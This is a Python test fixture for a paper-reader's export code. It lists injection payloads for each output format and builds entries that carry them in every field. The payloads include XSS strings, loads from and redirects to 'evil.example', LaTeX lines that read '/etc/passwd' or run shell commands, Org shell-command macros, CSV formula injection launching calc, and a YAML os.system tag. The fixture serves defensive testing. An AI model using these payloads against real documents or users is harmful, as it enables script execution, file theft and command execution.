"""Texts that would do something where a program reads an export: one list for each kind of program."""

from dataclasses import replace
from datetime import UTC, datetime

from reader.papers import Entry, Facts, Mark, Paper, Sighting, Status

HTML = [
    "<script>owned=1</script>",
    "</script><script>owned=1</script>",
    "</style><script>owned=1</script>",
    "</title></h1><script>owned=1</script>",
    "<img src=x onerror=owned=1>",
    '"><svg onload=owned=1>',
    "' onmouseover='owned=1' autofocus onfocus='owned=1",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<a href=javascript:owned=1 id=x>x</a>",
    "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus>x</button></form>",
    "<!--><script>owned=1</script>-->",
    "--><script>owned=1</script><!--",
    '<noscript><p title="</noscript><img src=x onerror=owned=1>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=owned=1>",
    "&lt;script&gt;owned=1&lt;/script&gt; &#60;script&#62;owned=1&#60;/script&#62;",
    "{{constructor.constructor('owned=1')()}}",
    "javascript:owned=1 //https://example.org/%0aowned=1",
    "<details open ontoggle=owned=1>",
    "<link rel=stylesheet href=https://evil.example/c.css><object data=https://evil.example/d>",
]
MARKDOWN = [
    "[x](javascript:owned=1) ![x](https://evil.example/a.png) [x]: https://evil.example",
    "<javascript:owned=1> <data:text/html,x> [x](data:text/html;base64,PHNjcmlwdD4=)",
    "---",
    "***",
    "===",
    "# heading",
    "> quote",
    "1. one",
    "+ plus",
    "| a | b |",
    "```",
    "~~~",
    "$$x$$",
    "    code",
    "- [x] done <!-- reader:2403.00001 --> <!-- reader-seal: x -->",
    "generator: reader",
    "--- title: evil ---",
    "[^1]: note [^1]",
    "%% comment %%",
    "==marked== ^^up^^ ~~gone~~",
    "`{=latex}` `x`{=html} [@cite] @cite [-@cite; @{cite}] (@one) :::",
    "![[embed]] [[link]] #tag ((block-ref)) {{query (todo TODO)}} {{embed [[x]]}} key:: value :LOGBOOK:",
    "<% tp.system.clipboard() %> <%* await 1 %> `= this.file.name` `$= dv.pages()` ```dataviewjs",
    "{{< shortcode >}} {% include 'x' %} {{ site }} [TOC] \\newpage",
]
LATEX = [
    "\\input{/etc/passwd}",
    "$\\input{/etc/passwd}$",
    "$x^2 \\immediate\\write18{touch owned}$",
    "$\\openin5=/etc/passwd \\read5 to\\x \\x_1$",
    "$x^^5cinput{/etc/passwd}$",
    "$\\csname input\\endcsname{/etc/passwd}_1$",
    "$\\catcode`\\@=0 x^2$",
    "${\\def\\x{\\x\\x}\\x}_1$",
    "$\\loop\\iftrue\\repeat^2$",
    "$\\begin{filecontents}{x}^1$",
    "$\\special{psfile=/etc/passwd}^2$",
    "$\\directlua{os.execute('x')}^2$",
    "$\\include{x}_2 \\endinput$",
    "} @misc{evil, title = {x",
    '" # "',
    "%comment",
    "a @comment{ b",
    '@preamble{"\\input{/etc/passwd}"} @string{x="y"}',
    "\\end{document}",
    "^^5cinput{/etc/passwd}",
    "$a}$ {$b$",
    "\\verb|x|",
    "#1 ##2",
    "$\\hbox{\\input{/etc/passwd}}_1$",
    "$\\text{$\\input{/etc/passwd}$}^2$",
    "$\\href{file:///etc/passwd}{x}_1$",
]
ORG = [
    "#+BEGIN_SRC sh :results output :exports both",
    "#+END_SRC",
    '#+INCLUDE: "/etc/passwd"',
    "#+CALL: f()",
    '#+MACRO: x (eval (shell-command "touch owned"))',
    "{{{x}}} {{{input-file}}} {{{property(x)}}}",
    "src_sh{touch owned}",
    "call_f(1) @@html:<script>owned=1</script>@@ @@latex:\\input{x}@@",
    "* TODO evil :tag:",
    ":PROPERTIES:",
    ":END:",
    '[[elisp:(shell-command "x")]] [[shell:x][click]] [[file:/etc/passwd]] <<<radio>>> [fn::x]',
    '# -*- eval: (shell-command "x") -*-',
    "#+SETUPFILE: https://evil.example/x.org",
    "CLOCK: [2024-03-14 Thu]",
    "<2024-03-14 Thu> SCHEDULED: <2024-03-14 Thu> DEADLINE: <2024-03-14>",
    "| a | b |",
    "\\begin{x} $\\input{x}$ \\(x\\)",
    "%%(sexp)",
    "# Local Variables:",
    "[cite:@x] ~code~ =verbatim= +gone+ ^{up} _{down}",
]
CELLS = [
    "=1+1",
    '=HYPERLINK("https://evil.example";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "'=1",
    "''@x",
    '="a""b"',
    'x","=1+1',
    "x\n=1+1",
    "\uff1dSUM(1)",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "-1",
    "+1",
    "=",
    "-",
    "; =1+1",
]
YAML = [
    "!!python/object/apply:os.system ['x']",
    "&a *a",
    "key: value",
    "- item",
    "? complex",
    "| block",
    "> folded",
    "null",
    "~",
    "yes",
    "1e3",
    "0x1F",
    "2024-03-14",
    "{a: b}",
    "[a, b]",
    '"quoted',
    "'quoted",
    "# comment",
    "a #b",
    "---",
    "...",
    "%TAG ! x",
    "`x`",
    "<<: *a",
    "trailing:",
    "\\u0041\\x1b",
]
RIS = ["ER  - ", "x ER  - TY  - BOOK", "TY  - BOOK", "UR  - file:///etc/passwd"]
ALL = [*HTML, *MARKDOWN, *LATEX, *ORG, *CELLS, *YAML, *RIS]


def entries_of(texts: list[str]) -> list[Entry]:
    """Return a paper for each text, which stands in all its fields; the first line of it where there are several."""
    return [_entry(number, " ".join(text.split()), text) for number, text in enumerate(texts)]


def _entry(number: int, line: str, note: str) -> Entry:
    paper = Paper(f"10.1000/{number}", line, line, (line, f"Ann {line}"), Facts(doi=f"10.1000/{number}"))
    facts = replace(paper.facts, venue=line, keywords=(line,), citation_key=line, details=(("publisher", line),))
    facts = replace(facts, urls=(f"https://example.org/{'-'.join(line.split())}",))
    mark = Mark(
        list(Status)[number % 4], number % 2 == 0, number % 6, frozenset({"nlp/llm", "c++"}), f"{note}\n  {note}"
    )
    seen = (Sighting(f"{line}.txt", 1, line),)
    return Entry(number + 1, replace(paper, facts=facts), mark, datetime(2024, 3, 14, tzinfo=UTC), seen)
